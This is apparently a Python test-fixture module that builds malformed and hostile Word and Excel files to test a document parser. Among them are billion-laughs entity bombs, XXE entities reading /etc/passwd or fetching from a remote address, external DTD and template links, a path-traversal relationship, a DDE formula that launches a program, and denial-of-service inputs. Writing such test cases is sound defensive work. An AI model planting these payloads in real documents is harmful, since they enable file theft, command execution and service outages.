"""Word and Excel files made to break or to hold up a reader: entity bombs, outside references, lies about sizes."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.hostile.archives import packed

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>%s</Types>'
)
OVERRIDE = '<Override PartName="%s" ContentType="application/%s+xml"/>'
WORD = "vnd.openxmlformats-officedocument.wordprocessingml.document.main"
MACRO = "vnd.ms-word.document.macroEnabled.main"
BOOK = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main"
MACRO_BOOK = "vnd.ms-excel.sheet.macroEnabled.main"
SHEET = "vnd.openxmlformats-officedocument.spreadsheetml.worksheet"
STRINGS = "vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings"
STYLES = "vnd.openxmlformats-officedocument.spreadsheetml.styles"
LINKS = (
    '<?xml version="1.0"?><Relationships xmlns='
    '"http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LINK = '<Relationship Id="%s" Type="' + KIND + '%s" Target="%s"%s/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = f'xmlns:r="{KIND[:-1]}"'
TEXT = "<w:p><w:r><w:t>企业简介</w:t></w:r></w:p>"
LAUGHS = (
    "<!DOCTYPE a ["
    + '<!ENTITY e0 "哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(12))
    + "]>"
)
BLOWUP = '<!DOCTYPE a [<!ENTITY e "' + "x" * 100_000 + '">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
ADDRESS = '<!DOCTYPE a [<!ENTITY e SYSTEM "http://192.0.2.1/x">]>'
DTD = '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'


def word(body: str = TEXT, *, doctype: str = "", kind: str = WORD, **parts: str | bytes) -> bytes:
    """A Word file of this body; further parts by name, a double underscore for `/`."""
    members: dict[str, bytes] = {
        "[Content_Types].xml": (TYPES % (OVERRIDE % ("/word/document.xml", kind))).encode(),
        "_rels/.rels": (
            LINKS % (LINK % ("r1", "officeDocument", "word/document.xml", ""))
        ).encode(),
        "word/document.xml": (
            f'<?xml version="1.0"?>{doctype}<w:document {W}><w:body>{body}</w:body></w:document>'
        ).encode(),
    }
    return packed(members | _parts(parts))


def sheet(
    rows: str = '<row r="1"><c r="A1" t="inlineStr"><is><t>营业收入</t></is></c></row>',
    *,
    doctype: str = "",
    dimension: str = "A1",
    more: str = "",
    kind: str = BOOK,
    **parts: str | bytes,
) -> bytes:
    """An Excel file of one sheet; `more` follows the data."""
    overrides = "".join(
        OVERRIDE % pair
        for pair in (
            ("/xl/workbook.xml", kind),
            ("/xl/worksheets/sheet1.xml", SHEET),
            ("/xl/sharedStrings.xml", STRINGS),
            ("/xl/styles.xml", STYLES),
        )
    )
    links = LINK % ("r1", "worksheet", "worksheets/sheet1.xml", "")
    links += LINK % ("r2", "sharedStrings", "sharedStrings.xml", "")
    links += LINK % ("r3", "styles", "styles.xml", "")
    members: dict[str, bytes] = {
        "[Content_Types].xml": (TYPES % overrides).encode(),
        "_rels/.rels": (LINKS % (LINK % ("r1", "officeDocument", "xl/workbook.xml", ""))).encode(),
        "xl/_rels/workbook.xml.rels": (LINKS % links).encode(),
        "xl/workbook.xml": (
            f'<workbook {S} {R}><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'
        ).encode(),
        "xl/sharedStrings.xml": f"<sst {S}><si><t>x</t></si></sst>".encode(),
        "xl/styles.xml": f"<styleSheet {S}><cellXfs><xf/></cellXfs></styleSheet>".encode(),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0"?>{doctype}<worksheet {S}><dimension ref="{dimension}"/>'
            f"<sheetData>{rows}</sheetData>{more}</worksheet>"
        ).encode(),
    }
    return packed(members | _parts(parts))


def _parts(parts: Mapping[str, str | bytes]) -> dict[str, bytes]:
    named = {name.replace("__", "/").replace("_xml", ".xml"): part for name, part in parts.items()}
    return {n: part.encode() if isinstance(part, str) else part for n, part in named.items()}


def cell(at: str, inner: str, attributes: str = "") -> str:
    row = "".join(filter(str.isdigit, at)) or "1"
    return f'<row r="{row}"><c r="{at}"{attributes}>{inner}</c></row>'


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested(tag: str, depth: int, inner: str = "") -> str:
    return f"<{tag}>" * depth + inner + f"</{tag}>" * depth


def tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + TEXT + "</w:tc></w:tr></w:tbl>" * depth


def linked(kind: str, target: str) -> bytes:
    """A Word file that refers to something outside."""
    link = LINKS % (LINK % ("r9", kind, target, ' TargetMode="External"'))
    return packed_with_links(link)


def packed_with_links(links: str) -> bytes:
    members = {
        "[Content_Types].xml": (TYPES % (OVERRIDE % ("/word/document.xml", WORD))).encode(),
        "_rels/.rels": (
            LINKS % (LINK % ("r1", "officeDocument", "word/document.xml", ""))
        ).encode(),
        "word/document.xml": f"<w:document {W}><w:body>{TEXT}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": links.encode(),
    }
    return packed(members)


WORDS: Mapping[str, Callable[[], bytes]] = {
    "entity bomb": lambda: word(said("&e12;"), doctype=LAUGHS),
    "one large entity many times": lambda: word(said("&e;" * 20_000), doctype=BLOWUP),
    "entity of a file": lambda: word(said("&e;"), doctype=OUTSIDE),
    "entity of an address": lambda: word(said("&e;"), doctype=ADDRESS),
    "definition from an address": lambda: word(doctype=DTD),
    "parameter entity": lambda: word(doctype=PARAMETER),
    "hundred thousand tags deep": lambda: word(nested("w:sdt", 100_000, TEXT)),
    "tables two thousand deep": lambda: word(tables(2000)),
    "tables fifty deep": lambda: word(tables(50)),
    "cell that spans a billion columns": lambda: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
        f"{TEXT}</w:tc></w:tr></w:tbl>"
    ),
    "cell that spans less than nothing": lambda: word(
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-7"/></w:tcPr>{TEXT}</w:tc></w:tr></w:tbl>'
    ),
    "row that starts behind a billion columns": lambda: word(
        '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>'
        f"<w:tc>{TEXT}</w:tc></w:tr></w:tbl>"
    ),
    "million paragraphs": lambda: word("<w:p/>" * 1_000_000),
    "paragraph of ten million characters": lambda: word(said("字" * 10_000_000)),
    "numbering in a circle": lambda: word(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="-1"/></w:numPr></w:pPr></w:p>'
        + TEXT
    ),
    "template from an address": lambda: linked("attachedTemplate", "http://192.0.2.1/x.dotm"),
    "picture from an address": lambda: linked("image", "http://192.0.2.1/x.png"),
    "picture from a server": lambda: linked("image", "file://192.0.2.1/share/x.png"),
    "object from a file": lambda: linked("oleObject", "file:///etc/passwd"),
    "part outside the file": lambda: packed_with_links(
        LINKS % (LINK % ("r9", "image", "../../../../etc/passwd", ""))
    ),
    "macros": lambda: word(kind=MACRO, word__vbaProject_bin=b"\xd0\xcf\x11\xe0" + bytes(500)),
    "no document": lambda: packed(
        {"[Content_Types].xml": (TYPES % (OVERRIDE % ("/word/document.xml", WORD))).encode()}
    ),
    "document that is no XML": lambda: word("<<<>>>"),
    "no body": lambda: word("</w:body><w:body>"),
    "nothing in it": lambda: word(""),
}
BOOKS: Mapping[str, Callable[[], bytes]] = {
    "entity bomb": lambda: sheet(
        cell("A1", "<is><t>&e12;</t></is>", ' t="inlineStr"'), doctype=LAUGHS
    ),
    "entity of a file": lambda: sheet(
        cell("A1", "<is><t>&e;</t></is>", ' t="inlineStr"'), doctype=OUTSIDE
    ),
    "entity of an address": lambda: sheet(
        cell("A1", "<is><t>&e;</t></is>", ' t="inlineStr"'), doctype=ADDRESS
    ),
    "all rows and columns claimed": lambda: sheet(dimension="A1:XFD1048576"),
    "cell in the last corner": lambda: sheet(
        cell("XFD1048576", "<is><t>角</t></is>", ' t="inlineStr"'),
        dimension="A1:XFD1048576",
    ),
    "row beyond the last": lambda: sheet(cell("A999999999", "<v>1</v>")),
    "column beyond the last": lambda: sheet(cell("ZZZZZZ1", "<v>1</v>")),
    "cell without a place": lambda: sheet("<row><c><v>1</v></c></row>"),
    "cell at a place that is none": lambda: sheet('<row r="x"><c r="??"><v>1</v></c></row>'),
    "everything merged": lambda: sheet(
        more='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    ),
    "hundred thousand merges": lambda: sheet(
        more="<mergeCells>"
        + "".join(f'<mergeCell ref="A{n}:C{n}"/>' for n in range(1, 100_000))
        + "</mergeCells>"
    ),
    "number beyond all numbers": lambda: sheet(cell("A1", "<v>1e999999</v>")),
    "number that is none": lambda: sheet(cell("A1", "<v>NaN</v>")),
    "number of a million digits": lambda: sheet(cell("A1", f"<v>{'9' * 1_000_000}</v>")),
    "date beyond all dates": lambda: sheet(cell("A1", "<v>1e15</v>", ' t="d"')),
    "shared string that is not there": lambda: sheet(cell("A1", "<v>99999999</v>", ' t="s"')),
    "negative shared string": lambda: sheet(cell("A1", "<v>-1</v>", ' t="s"')),
    "style that is not there": lambda: sheet(cell("A1", "<v>1</v>", ' s="4000000000"')),
    "strings without end": lambda: sheet(
        xl__sharedStrings_xml=f"<sst {S}>" + "<si><t>x</t></si>" * 2_000_000 + "</sst>"
    ),
    "formats without end": lambda: sheet(
        xl__styles_xml=f"<styleSheet {S}><numFmts>"
        + "".join(f'<numFmt numFmtId="{n}" formatCode="{"0" * 99}"/>' for n in range(50_000))
        + "</numFmts></styleSheet>"
    ),
    "formula that starts a program": lambda: sheet(
        cell("A1", "<f>cmd|'/c calc'!A1</f><v>1</v>") + cell("A2", "<v>2</v>")
    ),
    "formula from an address": lambda: sheet(
        cell("A1", '<f>WEBSERVICE("http://192.0.2.1/")</f><v>1</v>')
    ),
    "formula of ten thousand brackets": lambda: sheet(
        cell("A1", f"<f>{'(' * 10_000}1{')' * 10_000}</f><v>1</v>")
    ),
    "macros": lambda: sheet(kind=MACRO_BOOK, xl__vbaProject_bin=b"\xd0\xcf\x11\xe0" + bytes(500)),
    "link to another book": lambda: sheet(
        xl__externalLinks__externalLink1_xml=f"<externalLink {S}/>",
    ),
    "hundred thousand tags deep": lambda: sheet(nested("row", 100_000)),
    "no sheets": lambda: sheet(xl__workbook_xml=f"<workbook {S}><sheets/></workbook>"),
    "sheet that is no XML": lambda: sheet("<<<"),
    "nothing in it": lambda: sheet(""),
}
